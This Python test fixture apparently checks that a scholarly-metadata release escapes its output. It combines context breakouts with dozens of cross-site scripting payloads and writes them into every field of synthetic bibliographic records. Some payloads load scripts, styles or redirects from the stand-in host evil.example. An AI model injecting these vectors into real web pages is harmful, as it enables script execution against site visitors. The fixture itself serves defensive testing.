"""Vectors of script injection, made of ways out of a context and of what would run there; and a graph full of them."""

from __future__ import annotations

import hashlib
from pathlib import Path
from typing import Any

#: What ends the context that a text stands in: an attribute, an element, a comment, a section.
WAYS_OUT = ("", '">', "'>", '"/>', "</title>", "</script>", "</textarea></style>", "-->", "]]>", "`}}")

#: What would run, load or show something once outside: elements, attributes, addresses, encodings, templates.
PAYLOADS = (
    "<script>hit()</script>",
    "<ScRiPt/x>hit()</sCrIpT >",
    "<script src=//evil.example/x.js></script>",
    "<img src=x onerror=hit()>",
    "<img/src=`x`onerror=hit()>",
    "<svg onload=hit()>",
    "<svg><script>hit()</script></svg>",
    "<svg><animate onbegin=hit() attributeName=x dur=1s>",
    "<iframe src=javascript:hit()></iframe>",
    '<iframe srcdoc="<script>parent.hit()</script>"></iframe>',
    "<object data=javascript:hit()></object>",
    "<embed src=javascript:hit()>",
    "<a href=javascript:hit()>x</a>",
    "<a href='\u0001java\tscript:hit()'>x</a>",
    "<form action=javascript:hit()><button autofocus>x</button></form>",
    "<input autofocus onfocus=hit()>",
    "<details open ontoggle=hit()>",
    "<video><source onerror=hit()></video>",
    "<body onload=hit()>",
    "<base href=//evil.example/>",
    "<meta http-equiv=refresh content=0;url=//evil.example/>",
    "<link rel=stylesheet href=//evil.example/x.css>",
    "<style>*{background:url(//evil.example/x)}</style>",
    "<math><mi xlink:href=javascript:hit()>x</mi></math>",
    "<template><script>hit()</script></template>",
    "<noscript><p title='</noscript><img src=x onerror=hit()>'>",
    "<!--<script>hit()//-->",
    '" onmouseover=hit() autofocus onfocus=hit() x="',
    "' onmouseover=hit() autofocus onfocus=hit() x='",
    "&lt;script&gt;hit()&lt;/script&gt;",
    "&#60;img src=x onerror=hit()&#62;",
    "\\u003cscript\\u003ehit()\\u003c/script\\u003e",
    "\uff1cscript\uff1ehit()\uff1c/script\uff1e",
    "{{ hit() }}${hit()}<%= hit() %>",
    "javascript:hit()",
)

VECTORS = tuple(f"{out}{payload}" for payload in PAYLOADS for out in WAYS_OUT)

#: As long as a vector may be, so that what depends on length is the same in its harmless twin.
#: Letters for the digits of a hash.
_LETTERS = str.maketrans("0123456789", "ghijklmnop")


def harmless(vector: str) -> str:
    """A text of the same length without any sign, another one for each vector: works of one name stand on one page."""
    told = hashlib.sha256(vector.encode()).hexdigest().translate(_LETTERS)
    return (told * (len(vector) // len(told) + 1))[: len(vector)]


def add_works(made: Any, rows: dict[str, list[dict[str, Any]]], texts: tuple[str, ...]) -> list[str]:
    """Adds a work for each text, which stands in every field of it that is shown. Returns the products' ids.

    `made` is the module of the small release. Each work cites the one before it, so that lists show them too.
    """
    ids: list[str] = []
    for number, text in enumerate(texts):
        person = {**made.author(1, "Eve", "Invented"), "full_name": f"Eve {text}", "family_name": text}
        group = {**made.author(2, None, text), "full_name": f"Group {text}"}
        work = made._bibliography(
            title=f"Vector {number} {text}",
            subtitle=f"Under {text}",
            alternative_titles=[f"Also {text}"],
            authors=[person, group],
            descriptions=[f"Begins {text} ends", f"Second {text}"],
            subjects=[{"scheme": "keyword", "value": f"Word {text}", "term_id": None}],
            container={"name": f"Journal {text}"},
            publisher=f"Publisher {text}",
            published_on="2019",
            year=2019,
            pids=[made.pid("doi", f"10.5555/vector.{number}{text if number % 7 == 0 else ''}")],
            instances=[
                made.instance(
                    hosted_by=f"Host {text}",
                    license=f"Licence {text}",
                    license_url=text,
                    urls=[text, f"https://example.org/{number}"],
                    collected_from="openalex",
                    access_right="c_abf2",
                )
            ],
            funding=[{"funder_name": f"Funder {text}", "funder_id": None, "award": text}],
            is_retracted=number % 50 == 0,
        )
        ids.append(made.add(rows, work, f"openalex:vector-{number}", "c_abf2"))
        if number:
            made.cite(rows, ids[number], ids[number - 1])
    return ids


def write_graph(made: Any, home: Path, texts: tuple[str, ...]) -> list[str]:
    """Writes a graph of works with these texts. Returns the products' ids in their order."""
    rows = made.synthetic(3)
    ids = add_works(made, rows, texts)
    made.indicators(rows)
    made.behind_the_indicators(rows)
    made.write_release(home, rows)
    return ids
